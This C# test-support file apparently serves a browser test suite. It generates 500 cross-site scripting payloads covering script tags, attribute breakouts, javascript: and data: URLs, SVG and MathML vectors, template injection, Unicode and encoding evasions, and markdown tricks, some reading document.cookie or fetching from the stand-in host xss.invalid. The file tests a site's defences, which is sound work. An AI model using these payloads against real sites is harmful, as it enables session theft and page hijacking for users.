namespace RhetoricLens.BrowserTests.Support;

/// <summary>Texts that would run in a reader's browser if anything took them for markup, an address or code: made from parts, always the same.</summary>
public static class HostileTexts
{
    /// <summary>How many there are.</summary>
    public const int Count = 500;

    /// <summary>Where none of the pages may send anything; the name cannot be resolved (RFC 6761).</summary>
    public const string Outside = "xss.invalid";

    /// <summary>What runs when it runs; the tests look for its traces.</summary>
    private static readonly string[] Code = ["window.__xss=1", "alert(1)", $"fetch('//{Outside}/')", "self['__x'+'ss']=1", "parent.__xss=document.cookie", "top.__xss=1;print()"];

    private static readonly string[] Tags =
    [
        "img src=x", "svg", "body", "iframe src=/", "video src=x", "audio src=x", "object data=x", "embed src=x", "details open", "input autofocus", "button autofocus", "select autofocus", "textarea autofocus",
        "a href=# autofocus", "div tabindex=1", "marquee", "form", "style", "link rel=stylesheet href=x", "math",
    ];

    private static readonly string[] Events = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onpointerenter", "onanimationstart", "onclick"];

    /// <summary>All of them, each once.</summary>
    public static IReadOnlyList<string> All { get; } = [.. Kinds().Distinct(StringComparer.Ordinal).Take(Count)];

    private static IEnumerable<string> Kinds() => new[]
    {
        Scripts(), Breakouts(), Addresses(), Drawings(), Templates(), Nestings(), Letters(), Styles(), Marks(), Encoded(), Handlers(),
    }.SelectMany(kind => kind);

    private static IEnumerable<string> Each(IEnumerable<string> forms) => forms.SelectMany(form => Code.Select(code => form.Replace("CODE", code, StringComparison.Ordinal)));

    private static IEnumerable<string> First(IEnumerable<string> forms, int codes) => forms.SelectMany(form => Code.Take(codes).Select(code => form.Replace("CODE", code, StringComparison.Ordinal)));

    private static IEnumerable<string> Handlers() =>
        Tags.SelectMany((tag, i) => Events.Select((name, j) => $"<{tag} {(j % 2 == 0 ? name : name.ToUpperInvariant())}={(j % 3 == 0 ? "\"" : "")}{Code[(i + j) % Code.Length]}{(j % 3 == 0 ? "\"" : "")}>"));

    private static IEnumerable<string> Scripts() => Each(
    [
        "<script>CODE</script>", "<ScRiPt >CODE</sCrIpT >", "<script/x>CODE</script/x>", "<script\n>CODE</script\n>", "<scr<script>ipt>CODE</scr</script>ipt>", "<script type=module>CODE</script>",
        $"<script src=//{Outside}/x.js>CODE</script>", "<script>/*<!--*/CODE//--></script>", "<<script>CODE//<</script>",
    ]);

    private static IEnumerable<string> Breakouts() => First(
    [
        "\" onmouseover=\"CODE\" x=\"", "' onfocus='CODE' autofocus='", "\"><img src=x onerror=CODE>", "'><svg onload=CODE>", "`><img src=x onerror=CODE>", "\"/><script>CODE</script>", " onpointerenter=CODE ",
        "\\\"><img src=x onerror=CODE>", "\" style=\"animation:appear 1s\" onanimationstart=\"CODE", "\">'>CODE<\"", "x\" href=\"javascript:CODE", "*/CODE/*", "';CODE;//", "\";CODE;//", "</script><script>CODE</script>",
    ], 3);

    private static IEnumerable<string> Addresses() => First(
    [
        "javascript:CODE", "JaVaScRiPt:CODE", "java\tscript:CODE", "java\nscript:CODE", "\u0001javascript:CODE", " javascript:CODE", "javascript&colon;CODE", "&#106;avascript:CODE", "javascript://example.org/%0aCODE",
        "data:text/html,<script>CODE</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#CODE", "data:image/svg+xml,<svg onload=CODE>", "vbscript:CODE", "view-source:javascript:CODE", "file:///etc/passwd#CODE",
        $"//{Outside}/CODE", $"https://{Outside}/\"onmouseover=\"CODE", $"https://example.org@{Outside}/CODE", $"https://user:CODE@{Outside}/", "blob:https://example.org/CODE", "about:blank#CODE", "http:javascript:CODE",
    ], 3);

    private static IEnumerable<string> Drawings() => First(
    [
        "<svg><script>CODE</script></svg>", "<svg><animate onbegin=CODE attributeName=x dur=1s>", "<svg><a xlink:href=\"javascript:CODE\"><text>x</text></a>", "<svg><use href=\"data:image/svg+xml,<svg id=x onload=CODE>#x\">",
        "<svg><foreignObject><iframe srcdoc=\"<script>CODE</script>\">", "<svg><set attributeName=onmouseover to=CODE>", "<math><maction actiontype=statusline xlink:href=\"javascript:CODE\">x</maction></math>",
        "<math href=\"javascript:CODE\">x</math>", "<math><mtext><table><mglyph><style><img src=x onerror=CODE>", "<svg><style><img src=x onerror=CODE></style>", "<svg/onload=CODE//", "<?xml-stylesheet href=\"javascript:CODE\"?><svg/>",
    ], 3);

    private static IEnumerable<string> Templates() => First(
    [
        "{{constructor.constructor('CODE')()}}", "${CODE}", "<%= CODE %>", "#{CODE}", "@(CODE)", "{% CODE %}", "[[CODE]]", "{{=CODE}}", "<div v-html=\"'<img src=x onerror=CODE>'\">", "<div ng-app ng-csp>{{$eval.constructor('CODE')()}}</div>",
        "<template><img src=x onerror=CODE></template>", "<!--Blazor:{\"type\":\"server\",\"descriptor\":\"CODE\"}-->", "<!--bl:1-->CODE<!--/bl-->", "<blazor-ssr><template>CODE</template></blazor-ssr>",
    ], 3);

    private static IEnumerable<string> Nestings() => First(
        new[] { "title", "textarea", "style", "noscript", "template", "xmp", "iframe", "svg", "select", "blockquote", "mark", "span", "table" }.Select(tag => $"</{tag}><img src=x onerror=CODE>")
            .Concat(["--><script>CODE</script>", "]]><script>CODE</script>", "<!--><img src=x onerror=CODE>-->", "<a><b></a></b><img src=x onerror=CODE", "<p <img src=x onerror=CODE>>"]), 2);

    private static IEnumerable<string> Letters() => First(
    [
        "＜script＞CODE＜/script＞", "<scr\u200Bipt>CODE</scr\u200Bipt>", "\u202E<script>CODE</script>", "<img src=x onerror=CODE\u2028>", "<img\u00A0src=x\u00A0onerror=CODE>", "<img\u000Csrc=x\u000Conerror=CODE>", "+ADw-script+AD4-CODE+ADw-/script+AD4-",
        "\u00BCscript\u00BECODE\u00BC/script\u00BE", "<ſcript>CODE</ſcript>", "<svg onload\u0338=CODE>", "\uFEFF<script>CODE</script>", "ʺ><img src=x onerror=CODE>", "ﹶ<img src=x onerror=CODE>ا", "<im\u00ADg src=x onerror=CODE>",
    ], 2);

    private static IEnumerable<string> Styles() => First(
    [
        $"<style>@import '//{Outside}/x.css';/*CODE*/</style>", $"<p style=\"background:url(//{Outside}/x)/*CODE*/\">", "<div style=\"width:expression(CODE)\">", "<style>*{background:url(javascript:CODE)}</style>", $"<link rel=preload as=script href=//{Outside}/ x=CODE>",
        $"<link rel=dns-prefetch href=//{Outside}/ x=CODE>", $"<meta http-equiv=refresh content=\"0;url=javascript:CODE\">", $"<base href=//{Outside}/ x=CODE>", "</style><script>CODE</script>", $"\";background:url(//{Outside}/);CODE;\"",
    ], 2);

    private static IEnumerable<string> Marks() => First(
    [
        "[x](javascript:CODE)", "![x](x\" onerror=\"CODE)", "<javascript:CODE>", "[x]: javascript:CODE\n[x]", $"![x](//{Outside}/x?CODE)", "[x](data:text/html,<script>CODE</script>)", "`<img src=x onerror=CODE>`", "# <script>CODE</script>",
        "| <img src=x onerror=CODE> |\n|---|", "**<svg onload=CODE>**",
    ], 2);

    private static IEnumerable<string> Encoded() => First(new[] { "<script>CODE</script>", "<img src=x onerror=CODE>", "<svg onload=CODE>" }, 2).SelectMany(text => (string[])
    [
        Uri.EscapeDataString(text), Uri.EscapeDataString(Uri.EscapeDataString(text)), string.Concat(text.Select(c => $"&#{(int)c};")), string.Concat(text.Select(c => $"&#x{(int)c:x}")), string.Concat(text.Select(c => $"\\u{(int)c:x4}")),
        text.Replace("<", "&lt;", StringComparison.Ordinal), text.Replace("<", "&amp;lt;", StringComparison.Ordinal), text.Replace("<", "\\x3c", StringComparison.Ordinal),
    ]);
}
